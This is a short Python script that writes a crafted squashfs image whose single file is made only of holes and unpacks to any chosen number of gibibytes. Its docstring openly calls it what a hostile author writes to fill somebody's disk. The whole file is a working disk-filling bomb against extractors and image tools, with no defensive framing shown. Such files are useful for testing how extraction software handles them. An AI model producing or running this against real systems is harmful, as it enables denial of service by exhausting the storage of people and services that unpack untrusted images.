#!/usr/bin/python3
"""bomb.py OUTPUT CODEC GIB - a small squashfs with one file of that many GiB

Nothing but a list of holes: what a hostile author writes to fill somebody's disk.
CODEC is squashfs's number (1 gzip, 6 zstd); no block is compressed, so any will do.
"""
import struct
import sys

BLOCK = 1 << 20
META = 8192


def table(data):
    out = b""
    for i in range(0, len(data), META):
        part = data[i:i + META]
        out += struct.pack("<H", len(part) | 0x8000) + part
    return out


def place(pos):
    """The reference of a place in a decoded table."""
    return pos // META * (META + 2) << 16 | pos % META


def main(output, codec, gib):
    size = gib << 30
    inodes = struct.pack("<4H2I3Q4I", 9, 0o644, 0, 0, 1000, 1, 96, size, size,
                         1, 0xffffffff, 0, 0xffffffff)
    inodes += bytes(4 * (size // BLOCK))
    root = place(len(inodes))
    listing = struct.pack("<3I4H", 0, 0, 1, 0, 0, 2, 3) + b"hole"
    inodes += struct.pack("<4H2I2I2HI", 1, 0o755, 0, 0, 1000, 2, 0, 2,
                          len(listing) + 3, 0, 3)
    packed, dirs = table(inodes), table(listing)
    ids = table(struct.pack("<I", 0))
    dir_at = 96 + len(packed)
    ids_at = dir_at + len(dirs)
    end = ids_at + len(ids) + 8
    none = 0xffffffffffffffff
    head = struct.pack("<5I6H8Q", 0x73717368, 2, 1000, BLOCK, 0, codec, 20,
                       0x10, 1, 4, 0, root, end, ids_at + len(ids), none, 96,
                       dir_at, none, none)
    with open(output, "wb") as f:
        f.write(head + packed + dirs + ids + struct.pack("<Q", ids_at))


main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
